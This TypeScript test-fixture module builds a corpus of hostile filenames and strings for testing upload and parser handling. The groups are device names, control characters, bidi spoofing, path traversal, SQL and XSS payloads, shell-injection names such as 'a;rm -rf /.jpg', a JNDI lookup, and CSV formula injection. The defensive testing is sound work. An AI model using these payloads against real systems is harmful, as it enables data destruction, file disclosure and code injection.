// A naughty-strings corpus generated in code (no maintained npm package is installed): the strings that break parsers, paths and UIs.
const RLO = '\u202e';
const LRO = '\u202d';
const ZWJ = '\u200d';

/** Windows reserved device names, which some file systems refuse whatever the extension. */
const DEVICE_NAMES = ['CON', 'PRN', 'AUX', 'NUL', 'COM1', 'COM9', 'LPT1', 'LPT9', 'CONIN$'];

/** Every C0 control character and DEL, one per string, inside an otherwise valid name. */
const CONTROLS = Array.from(
  { length: 32 },
  (_, i) => `re${String.fromCharCode(i)}ceipt.jpg`,
).concat('receipt\u007f.jpg');

/** Bidi overrides, zero-width and invisible characters: names that display as something else. */
const SPOOFING = [
  `invoice${RLO}gpj.exe`,
  `photo${RLO}fdp.jpg`,
  `${LRO}receipt.jpg`,
  'rece\u200bipt.jpg',
  'receipt\u200c.jpg',
  '\ufeffreceipt.jpg',
  'receipt.jpg\u2060',
  'receipt\u00ad.jpg',
  'receipt\u2028.jpg',
  'receipt\u2029.jpg',
  '\u061creceipt.jpg',
  'rеceipt.jpg', // Cyrillic е
];

/** Path traversal in every spelling a decoder might undo. */
const TRAVERSAL = [
  '../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/etc/passwd',
  'C:\\Windows\\System32\\drivers\\etc\\hosts',
  '\\\\server\\share\\receipt.jpg',
  '..%2f..%2fetc%2fpasswd',
  '..%252f..%252fetc%252fpasswd',
  '%2e%2e/%2e%2e/receipt.jpg',
  '....//....//receipt.jpg',
  '..\u2215..\u2215receipt.jpg',
  'receipt.jpg/../../x.jpg',
  '.',
  '..',
  '...',
  '/',
  'quarantine/receipt.jpg',
  'orphans/../receipt.jpg',
  'receipt.jpg\u0000.html',
  'file:///etc/passwd',
];

/** Emoji, ZWJ sequences, combining marks, RTL and CJK: valid names that stress length and encoding. */
const UNICODE = [
  '🧾.jpg',
  `👩${ZWJ}👩${ZWJ}👧${ZWJ}👦 receipt.jpg`,
  '🏳️‍🌈🏳️‍⚧️.png',
  'Ж'.repeat(600) + '.jpg',
  '😀'.repeat(300) + '.jpg',
  'e\u0301'.repeat(200) + '.jpg',
  'Z̴̡̛̗̩a̸̢͖l̷̰̈́g̶͈͝o̵̖͒.jpg',
  'קבלה.jpg',
  'إيصال.pdf',
  '領収書.jpg',
  '\ud800.jpg', // lone surrogate
  '\udfff\ud800.jpg',
  '\uffff\ufffe.jpg',
  'x'.repeat(1024),
  'a'.repeat(250) + '.jpg',
];

/** SQL, HTML, shell, format-string and CSV metacharacters: data that must stay data. */
const INJECTION = [
  "'; drop table files; --.jpg",
  "' or '1'='1.jpg",
  '"; select pg_sleep(5); --.jpg',
  '<script>alert(1)</script>.jpg',
  '<img src=x onerror=alert(1)>.jpg',
  '"><svg onload=alert(1)>.svg',
  'javascript:alert(1).jpg',
  '$(reboot).jpg',
  '`id`.jpg',
  'a;rm -rf /.jpg',
  'a|cat /etc/passwd.jpg',
  '%s%s%s%n.jpg',
  '{{7*7}}.jpg',
  '${jndi:ldap://x/a}.jpg',
  '=cmd|"/c calc"!A1.jpg',
  '@SUM(1+1).jpg',
  'receipt.jpg\r\nX-Injected: 1',
  'receipt".jpg',
  "receipt'.jpg",
  'receipt;filename=evil.html',
];

/** Names whose extension or shape lies: double extensions, trailing dots and spaces, no name at all. */
const SHAPES = [
  'receipt.jpg.exe',
  'receipt.exe.jpg',
  'receipt.html',
  'receipt.svg',
  'receipt.JPG',
  'receipt.jpg.',
  'receipt.jpg ',
  ' receipt.jpg',
  '.jpg',
  '.htaccess',
  'receipt',
  'receipt.',
  '   ',
  '\t',
  '-rf.jpg',
  '~receipt.jpg',
];

/** The corpus: device names (with and without extensions) and every group above. */
export const NAUGHTY_FILENAMES: readonly string[] = [
  ...DEVICE_NAMES,
  ...DEVICE_NAMES.map((n) => `${n}.jpg`),
  ...DEVICE_NAMES.map((n) => `${n.toLowerCase()}.pdf`),
  ...CONTROLS,
  ...SPOOFING,
  ...TRAVERSAL,
  ...UNICODE,
  ...UNICODE.slice(0, 6).map((n) => n.normalize('NFD')),
  ...UNICODE.slice(0, 6).map((n) => n.normalize('NFKC')),
  ...INJECTION,
  ...SHAPES,
];

/** Hostile strings for any text field (not only filenames): the corpus plus a few that target parsers. */
export const NAUGHTY_STRINGS: readonly string[] = [
  ...NAUGHTY_FILENAMES,
  '',
  '\u0000',
  'null',
  'undefined',
  'NaN',
  'true',
  '[object Object]',
  '__proto__',
  'constructor',
  '0x7fffffff',
  '-0',
  '1e999',
  '2026-02-30T25:61:61.000Z',
  '2026-03-01T09:00:00+02:00',
  '00000000-0000-0000-0000-000000000000',
  'F47AC10B-58CC-4372-A567-0E02B2C3D479',
];
